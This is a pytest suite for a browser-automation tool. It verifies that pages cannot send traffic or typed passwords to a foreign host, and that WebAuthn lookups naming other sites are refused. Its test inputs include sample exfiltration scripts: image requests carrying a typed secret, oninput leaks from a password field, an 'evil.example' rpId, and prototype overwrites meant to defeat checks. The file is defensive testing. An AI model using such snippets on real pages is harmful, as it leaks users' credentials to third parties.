"""Where only the run's own sites exist, nothing reaches a second host of this computer: one table of all ways."""

import socket
from collections.abc import Callable, Generator
from contextlib import contextmanager

import pytest
from playwright.async_api import Page

from studio.browser.interception.targets import Targets
from studio.domain.actions.action import Fill
from tests.browser.interception.guarded import Guarded, yes
from tests.browser.interception.ways_out import FRAME, GROUPS, SHARED, Known, Way
from tests.browser.stage import live

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

_LAST_S = 0.6
"""How long nothing may come after the last way was tried."""


@contextmanager
def hearing(port: int) -> Generator[Callable[[], bool]]:
    """Hear datagrams at the port of the foreign site (WebRTC, QUIC); says whether one came."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
        ear.bind(("127.0.0.1", port))
        ear.setblocking(False)

        def has_heard() -> bool:
            try:
                return bool(ear.recv(2_000))
            except BlockingIOError:
                return False

        yield has_heard


def filled(guarded: Guarded, text: str) -> str:
    out = guarded.sites.foreign.url
    sockets, host = "ws" + out[4:], "127.0.0.1" + out[out.rindex(":") :]
    return guarded.fill(text.replace("{ws}", sockets).replace("{at}", host))


async def tried(guarded: Guarded, ways: tuple[Way, ...]) -> None:
    """Set every way off on a page of ours, one after the other."""
    for path, script in SHARED.items():
        guarded.sites.home.put(path, filled(guarded, script), Content_Type="text/javascript")
    await guarded.open("<p>本文")
    for way in (way for way in ways if way.known is not Known.OPEN):
        await guarded.js(f"() => {{ try {{ {filled(guarded, way.js)} }} catch (e) {{}} }}")


@pytest.mark.parametrize("group", GROUPS)
async def test_nothing_leaves_for_another_host(
    guarded: Guarded, group: str, record_property: Callable[[str, object], None]
) -> None:
    guarded.browser.guard_traffic(guarded.policy, holds_all=True)
    out = guarded.sites.foreign
    with hearing(int(out.url.rpartition(":")[2])) as has_heard:
        await tried(guarded, GROUPS[group])
        await guarded.quiet()
        assert await guarded.stays(lambda: not out.paths() and not has_heard(), _LAST_S), (
            out.paths()
        )
    record_property("ways out", [(way.name, str(way.known)) for way in GROUPS[group]])


@pytest.mark.parametrize("group", [name for name in GROUPS if name != "unheld"])
async def test_the_same_ways_arrive_where_they_are_allowed(guarded: Guarded, group: str) -> None:
    guarded.answers = yes
    held = sum(way.known is Known.HELD for way in GROUPS[group])
    await tried(guarded, GROUPS[group])
    out = guarded.sites.foreign
    # Two workers are of one script: whose socket came late would arrive in the next test.
    twice = 2 if group == "workers and sockets" else 0
    await guarded.until(lambda: len(set(out.paths())) >= held - twice // 2)
    await guarded.until(lambda: out.paths().count("/file-socket") == twice)


async def test_what_is_beside_a_secret_is_held_until_the_page_is_left(guarded: Guarded) -> None:
    browser, out = guarded.browser, guarded.sites.foreign
    ways = [*GROUPS["links and scripts"], *GROUPS["workers and sockets"], *GROUPS["parts"]]
    await tried(guarded, ())
    await guarded.open("<input type=password aria-label=合言葉 oninput='window.typed=1'>")
    seen = await browser.observe()
    browser.keep_secret(["Zx9-Mitsu+77/ura"])
    before = len(guarded.asked)
    await browser.perform(Fill(target=live(seen, "合言葉"), value="Zx9-Mitsu+77/ura"))
    for way in ways:
        await guarded.js(f"() => {{ try {{ {filled(guarded, way.js)} }} catch (e) {{}} }}")
    held = sum(way.known is Known.HELD for way in ways)
    await guarded.until(lambda: len(beside(guarded, before)) >= held)
    await guarded.quiet()
    assert out.paths() == []
    guarded.answers = yes
    await guarded.open(f"<img src='{out.url}/logo'>", "/next")
    # What the page that is left goes on asking for has a yes from now on, too.
    await guarded.until(lambda: "/logo" in out.paths())
    (last,) = [one for one in guarded.asked if one.url.endswith("/logo")]
    assert (last.secret_of, last.carries_secret) == ("", False)
    await guarded.js(f"() => {{ new Image().src = '{out.url}/late?' + 'zx9-mitsu77ura' }}")
    await guarded.until(lambda: any("/late" in path for path in out.paths()))
    (last,) = [one for one in guarded.asked if "/late" in one.url]
    assert (last.secret_of.endswith("/start"), last.carries_secret) == (True, True)


async def test_a_password_that_nobody_registered_is_a_secret_too(guarded: Guarded) -> None:
    out = guarded.sites.foreign
    await guarded.open(
        f"<input type=password aria-label=合言葉 oninput=\"new Image().src='{out.url}/weak'\">"
        f"<input aria-label=名前 oninput=\"new Image().src='{out.url}/open'\">"
    )
    seen = await guarded.browser.observe()
    await guarded.browser.perform(Fill(target=live(seen, "名前"), value="山田"))
    await guarded.until(lambda: out.paths() == ["/open"])
    seen = await guarded.browser.observe()
    await guarded.browser.perform(Fill(target=live(seen, "合言葉"), value="test"))
    await guarded.until(lambda: any(one.url.endswith("/weak") for one in guarded.asked))
    await guarded.quiet()
    assert out.paths() == ["/open"]


async def test_a_run_asks_nothing_for_the_passwords_of_the_one_before(
    guarded: Guarded, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[Page] = []
    document_of = Targets.document_of

    async def counted(targets: Targets, page: Page) -> str:
        asked.append(page)
        return await document_of(targets, page)

    monkeypatch.setattr(Targets, "document_of", counted)
    await guarded.open("<input type=password aria-label=合言葉>")
    seen = await guarded.browser.observe()
    await guarded.browser.perform(Fill(target=live(seen, "合言葉"), value="test"))
    assert asked
    guarded.browser.guard_traffic(guarded.policy)
    asked.clear()
    await guarded.open("<p>次", "/next")
    assert asked == []


def beside(guarded: Guarded, before: int) -> list[str]:
    """Return what was asked about while a secret stood on our page."""
    home = guarded.sites.home.url
    return [one.url for one in guarded.asked[before:] if one.secret_of.startswith(home)]


_KEYS = {
    "get": "{publicKey:{challenge:new Uint8Array(16),rpId:ID}}",
    "create": "{publicKey:{challenge:new Uint8Array(16),rp:{id:ID,name:'a'},user:{id:new Uint8Array(4),name:'a',displayName:'a'},"
    "pubKeyCredParams:[{type:'public-key',alg:-7}]}}",
}


@pytest.mark.parametrize("window", ["window", FRAME])
@pytest.mark.parametrize("way", _KEYS)
async def test_no_other_site_is_asked_whether_it_knows_a_key(
    guarded: Guarded, way: str, window: str
) -> None:
    """The browser itself would ask `https://(what was typed).evil.example/.well-known/webauthn`."""
    await guarded.open("<p>本文")
    asks = f"()=>({window}).navigator.credentials.{way}({_KEYS[way]}).catch(e=>e.name)"

    async def answered(site: str) -> object:
        return await guarded.js(asks.replace("ID", site))

    assert await answered("'typed.evil.example'") == "NotAllowedError"
    assert await answered("{toString(){return 'typed.evil.example'}}") == "NotAllowedError"
    assert await answered("'7.0.0.1'") == "NotAllowedError"
    await guarded.js("()=>{String.prototype.endsWith=()=>true;Function.prototype.call=()=>0}")
    assert await answered("'typed.evil.example'") == "NotAllowedError"
    assert await answered("location.hostname") == "SecurityError"  # of the browser: no name
    told = (
        "()=>Object.getOwnPropertyNames(PublicKeyCredential).filter(one=>one.startsWith('signal'))"
    )
    assert await guarded.js(told) == []


async def test_what_says_another_site_the_second_time_says_it_once(guarded: Guarded) -> None:
    await guarded.open("<p>本文")
    turns = "{get rpId(){return (window.at=(window.at??0)+1)>1?'typed.evil.example':location.hostname},challenge:new Uint8Array(16)}"
    asks = f"()=>navigator.credentials.get({{publicKey:{turns}}}).catch(e=>e.name)"
    assert await guarded.js(asks) == "SecurityError"
    assert await guarded.js("()=>window.at") == 1
